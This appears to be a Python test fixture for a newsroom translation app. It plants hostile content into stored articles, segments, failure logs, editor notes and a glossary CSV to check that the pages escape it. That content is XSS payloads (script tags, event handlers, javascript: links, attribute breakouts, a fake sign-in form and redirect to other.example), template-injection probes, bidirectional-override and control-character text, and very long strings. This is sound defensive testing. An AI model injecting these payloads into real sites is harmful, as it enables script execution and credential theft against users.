"""Stories that mean harm: markup that wants to run, words of any length, marks that turn the page's direction.

They are put past every door, straight into the rows, as if a door had let them in: in headlines, subheads, datelines,
bodies, issuers, links, sentences and their issues, in a source's failure, a person's reason and the glossary.
"""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta

from pipeline import acts
from pipeline.model import Block, BlockKind, Dateline, Issue, Segment, Severity
from pipeline.store import Store, codec, opened, overview, problems
from pipeline.store.connection import text
from pipeline.store.segments import put
from tests.browser.stock import Stocked

# Each tells `window.ran` when it runs.
RUNS = (
    "<script>window.ran.push('script')</script>",
    "</script><script>window.ran.push('closed script')</script>",
    "<img src=x onerror=\"window.ran.push('onerror')\">",
    "<svg onload=\"window.ran.push('svg')\"><animate onbegin=\"window.ran.push('animate')\" attributeName=x dur=1s></svg>",
    "<a href=\"javascript:window.ran.push('link')\">further</a>",
    "<a href=\" java\tscript:window.ran.push('link')\" onclick=\"window.ran.push('click')\">further</a>",
    '" autofocus onfocus="window.ran.push(\'attribute\')" x="',
    "' autofocus onfocus='window.ran.push(\"attribute\")' x='",
    "</textarea><script>window.ran.push('textarea')</script><textarea>",
    "</title><script>window.ran.push('title')</script>",
    "</template><script>window.ran.push('template')</script>",
    "--><script>window.ran.push('comment')</script><!--",
    "<iframe src=\"javascript:parent.ran.push('frame')\" srcdoc=\"<script>parent.ran.push('srcdoc')</script>\"></iframe>",
    '<div hx-get="/sign-out" hx-trigger="load" hx-on:load="window.ran.push(1)" data-hx-get="/people">x</div>',
    '<form action="http://other.example/" method="post"><input name="password"><button>Sign in</button></form>',
    '<base href="http://other.example/"><meta http-equiv="refresh" content="0;url=http://other.example/">',
    '<style>body { display: none }</style><link rel="stylesheet" href="http://other.example/x.css">',
    "<object data=\"data:text/html,<script>opener.ran.push('object')</script>\"></object><embed src=x>",
    "<details open ontoggle=\"window.ran.push('toggle')\"><summary>x</summary></details><dialog open>Sign in</dialog>",
    "{{ 7 * 191 }} {% raw %} ${7 * 191} #{7 * 191} %(name)s {0} %s",
)
COLUMNS = ("term", "source language", "target language", "translation", "forbidden forms", "do-not-translate", "note")
LONG = ("Verwaltungsgemeinschaftsvorsitzendenstellvertreterin" * 100)[:5000]
TURNED = (
    "Port \u202egnp.exe\u202c opens \u202b\u2067\u2068 twice \u202e never closed 12 May 2026 (3,000)",
    "\u202e\u2066\u2066\u2066שלום \u202aabc\u200f\u200e\u061c 300",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356" * 60 + "\u200b\ufeff\u00ad\u2028\u2029\u0007\u001b[31mred",
    "🏳️‍🌈" * 40 + "﷽" * 30 + "ก็็็็็็็็็็็็็็็็็็",
)
KINDS = {"museum": RUNS, "library": (LONG, "x " * 4000, *[f"{n} {LONG[:200]}" for n in range(150)]), "theatre": TURNED}
EDITOR = "<b>Editor</b>"


def spoil(stocked: Stocked) -> None:
    """Put harm into a stocked newsroom: each of three stories, in every language, with one kind of it."""
    now = datetime.now(UTC)
    every = " ".join((*RUNS, *TURNED))
    with opened(stocked.newsroom.config().store) as store:
        for name, harm in KINDS.items():
            of_story = [uri for (announcement, _), uri in stocked.uris.items() if announcement == name]
            for uri in sorted(of_story, key=lambda uri: overview.one(store, uri).origin.rank):  # the official one first
                _say(store, uri, harm, now)
        problems.failed(store, "source", "inbox", every + LONG, now - timedelta(hours=3))
        problems.failed(store, "item", f"inbox {RUNS[0]}", every, now - timedelta(hours=3))
        acts.hold(store, stocked.stories["museum"], by=EDITOR, why=every[:1000], now=now)
        acts.release(store, stocked.stories["museum"], by=EDITOR, why=RUNS[0], now=now)
    with (stocked.newsroom.folder / "glossary.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(COLUMNS)
        rows.writerows([harm, "en", "fr", harm, harm, "no", harm] for harm in (*RUNS, *TURNED, LONG[:400]))
        rows.writerow([RUNS[0]])  # a broken line is told with its words


def _say(store: Store, uri: str, harm: tuple[str, ...], now: datetime) -> None:
    """A new version of an article, by whoever wrote the one before, that says nothing but harm."""
    before = overview.one(store, uri)
    first, every = harm[0], " ".join(harm)[:6000]
    said = {
        "version": before.version + 1,
        "headline": every if harm is RUNS else first,
        "subhead": every,
        "byline": every,
        "dateline": codec.dateline_text(Dateline(first, None, first, every)),
        "body": codec.body_text(tuple(Block(BlockKind.PARAGRAPH, one, one) for one in harm)),
        "origin_url": f"javascript:window.ran.push('origin') // {first}",
        "issuer": every,
        "link": f"javascript:window.ran.push('address') // {first}",
        "route": first,
        "models": first,
    }
    segments = []
    if before.translated_from is not None:
        said["from_version"] = overview.one(store, before.translated_from.uri).version
        issue = Issue("numbers", Severity.CRITICAL, "the source says {}, the translation {}", (first, every))
        sentences = enumerate((said["headline"], *harm), start=-1)
        segments = [Segment(at, one, one, html=one, issues=(issue,)) for at, one in sentences]
    with store.write():
        (row,) = store.rows("SELECT * FROM version WHERE uri = ? AND version = ?", (uri, before.version))
        kept = {name: row[name] for name in row.keys() if name != "ours"}  # noqa: SIM118
        store.run("UPDATE version SET state = 'superseded' WHERE uri = ? AND version = ?", (uri, before.version))
        store.insert("version", kept | said | {"created": text(now)})
        put(store, uri, before.version + 1, segments)
